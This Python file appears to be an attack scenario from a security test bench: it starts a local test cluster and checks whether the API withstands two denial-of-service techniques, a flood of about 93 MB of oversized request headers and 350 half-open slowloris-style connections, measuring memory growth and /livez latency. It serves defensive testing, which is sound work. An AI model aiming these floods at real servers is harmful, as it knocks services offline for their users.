"""Without a key: endless request headers fill the API's memory, and half-open connections are never closed."""

import asyncio
import time
from contextlib import suppress
from pathlib import Path
from typing import Final

from bench.support.cluster import open_cluster

_HEADER_MB: Final = 93
_MAX_GROWTH_MB: Final = 30
_HALF_OPEN: Final = 350
_WAIT_SECONDS: Final = 14.0


async def attack() -> str | None:
    async with open_cluster(apis=1, workers=0) as cluster:
        port = cluster.ports[0]
        pid = cluster.apis[0].pid
        assert pid is not None
        before = _peak_memory_mb(pid)
        slowest = await _send_headers(port)
        grown = _peak_memory_mb(pid) - before
        alive = await _hold_half_open(port)
    achieved = []
    if grown > _MAX_GROWTH_MB:
        achieved.append(
            f"{_HEADER_MB} MB of headers grew the API by {grown:.0f} MB and made /livez take {slowest:.1f} s"
        )
    if alive:
        achieved.append(f"{alive} of {_HALF_OPEN} half-open connections are open after {_WAIT_SECONDS:.0f} s")
    return "; ".join(achieved) or None


async def _send_headers(port: int) -> float:
    """Returns the slowest response of /livez meanwhile. The connection stays open while memory is measured."""
    watching = asyncio.create_task(_watch(port))
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(25):
            writer.write(b"GET /livez HTTP/1.1\r\nhost: localhost\r\n")
            for number in range(_HEADER_MB * 10):
                writer.write(b"x-%d: %s\r\n" % (number, b"a" * 100_000))
                await writer.drain()
            await asyncio.sleep(1)
    watching.cancel()
    await asyncio.gather(watching, return_exceptions=True)
    writer.transport.abort()
    del reader
    return _slowest


_slowest = 0.0


async def _watch(port: int) -> None:
    global _slowest  # noqa: PLW0603 - one attack in one process
    while True:
        began = time.monotonic()
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"GET /livez HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n")
            await reader.read()
            writer.close()
        _slowest = max(_slowest, time.monotonic() - began)
        await asyncio.sleep(0.05)


async def _hold_half_open(port: int) -> int:
    """Returns how many connections are still open at the end."""
    opened = [await asyncio.open_connection("127.0.0.1", port) for _ in range(_HALF_OPEN)]
    for _, writer in opened:
        writer.write(b"GET /livez HTTP/1.1\r\nhost: localhost\r\n")
    ended = [asyncio.create_task(_read_to_end(reader)) for reader, _ in opened]
    await asyncio.wait(ended, timeout=_WAIT_SECONDS)
    alive = sum(not task.done() for task in ended)
    for task, (_, writer) in zip(ended, opened, strict=True):
        task.cancel()
        writer.transport.abort()
    await asyncio.gather(*ended, return_exceptions=True)
    return alive


async def _read_to_end(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        await reader.read()


def _peak_memory_mb(pid: int) -> float:
    """Returns the peak memory of the process."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(int(line.split()[1]) for line in lines if line.startswith("VmHWM:")) / 1000
